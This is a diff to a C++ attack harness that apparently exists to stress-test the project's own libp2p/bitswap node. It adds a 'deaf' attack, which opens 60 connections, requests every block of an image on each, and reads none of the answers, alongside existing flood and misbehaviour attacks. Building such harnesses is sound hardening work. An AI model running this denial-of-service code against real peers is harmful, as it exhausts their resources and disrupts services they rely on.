@@ -1,14 +1,18 @@
 // SPDX-License-Identifier: BSL-1.0
 #include "attacks.hpp"
 
+#include <array>
 #include <chrono>
 #include <cstddef>
 #include <cstdint>
 #include <cstdio>
 #include <exception>
+#include <fstream>
 #include <memory>
 #include <random>
+#include <string>
 #include <string_view>
+#include <thread>
 #include <vector>
 
 #include <asio/io_context.hpp>
@@ -20,6 +24,7 @@
 #include <shoal/libp2p/multistream.hpp>
 #include <shoal/libp2p/yamux_frame.hpp>
 #include <shoal/net/bitswap_streams.hpp>
+#include <shoal/openssl/digester.hpp>
 
 #include "raw_link.hpp"
 
@@ -151,6 +156,32 @@ void wants(const asio::ip::tcp::endpoint& victim) {
   std::printf("wants: %zu blocks wanted that nobody has\n", sent);
 }
 
+/// Asks for every leaf of an image, as many peers, and reads none of the answers.
+void deaf(const asio::ip::tcp::endpoint& victim, const std::string& image) {
+  constexpr std::size_t leaf = 64u << 10;
+  std::ifstream file{image, std::ios::binary};
+  const shoal::openssl::digester digester;
+  shoal::exchange::bitswap_writer out;
+  for (bytes data(leaf); file.read(reinterpret_cast<char*>(data.data()), leaf);) {
+    std::array<std::byte, 32> digest;
+    if (digester.digest(shoal::hash_code::sha2_256, data, digest) != shoal::status::ok) return;
+    const shoal::cid id{shoal::multicodec::raw, *shoal::multihash::make(shoal::hash_code::sha2_256, digest)};
+    out.add_want({.id = id});
+  }
+  bytes message;
+  append_bitswap_stream(message, 1);
+  bytes body;
+  for (const shoal::shared_bytes& piece : out.finish()) append(body, piece.bytes);
+  append_data(message, 1, body);
+  std::vector<std::unique_ptr<raw_link>> links;
+  for (int i = 0; i < 60; ++i) {
+    links.push_back(std::make_unique<raw_link>(victim));
+    (void)links.back()->send(message);
+  }
+  std::this_thread::sleep_for(5s);
+  std::printf("deaf: %zu peers asked for everything and read nothing\n", links.size());
+}
+
 /// People who are not on the list, and connections on which nobody says who he is.
 void strangers(const asio::ip::tcp::endpoint& victim) {
   asio::io_context context;
@@ -170,11 +201,12 @@ void strangers(const asio::ip::tcp::endpoint& victim) {
 
 }  // namespace
 
-bool attack(std::string_view kind, const asio::ip::tcp::endpoint& victim) {
+bool attack(std::string_view kind, const asio::ip::tcp::endpoint& victim, const std::string& image) {
   if (kind == "oversized") return oversized(victim), true;
   if (kind == "streams") return streams(victim), true;
   if (kind == "window") return window(victim), true;
   if (kind == "wants") return wants(victim), true;
+  if (kind == "deaf") return deaf(victim, image), true;
   if (kind == "strangers") return strangers(victim), true;
   return false;
 }
